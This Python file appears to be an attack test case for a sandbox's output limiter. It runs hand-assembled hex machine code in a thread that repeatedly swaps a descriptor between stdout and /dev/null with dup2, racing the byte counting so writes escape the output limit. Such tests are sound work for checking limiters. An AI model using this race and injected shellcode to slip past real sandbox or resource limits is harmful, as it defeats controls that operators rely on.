# SPDX-License-Identifier: Apache-2.0
# attack: stdout under another number for an instant, by a thread that is told when the call begins
# class: output
# wins: limit
# native: n/a: it is a race against the counting
# options: --no-pin
# limits: out=2000000 wall=12 tasks=16
from kit import *

b = ctypes.create_string_buffer(b'k' * 60000)
null = openat('/dev/null', os.O_WRONLY)
os.dup2(null, 50)
# pulse(flag, delay, on, off): until *flag is 2: wait for 1, clear it, wait, dup2 by the pair on, wait a little, dup2 by off
CODE = ('41564157534989fe4989f74889d34989c9498b064883f80274414885c074f249c706000000004d89f8f39049ffc875f9'
        '488b3b488b7308b8210000000f0541b840000000f39049ffc875f9498b39498b7108b8210000000f05ebb65b415f415ec3')
flag = ctypes.c_uint64(0)
on, off = (ctypes.c_long * 2)(1, 50), (ctypes.c_long * 2)(null, 50)
tried()
fn = function(CODE, *[ctypes.c_void_p] * 4)
stop = time.monotonic() + 5
n = 0
for delay in (3000, 2000, 1400, 1000, 700, 500):
    flag.value = 0
    t = threading.Thread(target=fn, args=(address(flag), delay, address(on), address(off)), daemon=True)
    t.start()
    end = time.monotonic() + 1
    while time.monotonic() < end:
        n += 1
        flag.value = 1
        sc('write', 50, b, 60000)
    flag.value = 2
    t.join(1)
say('ROUNDS', n)
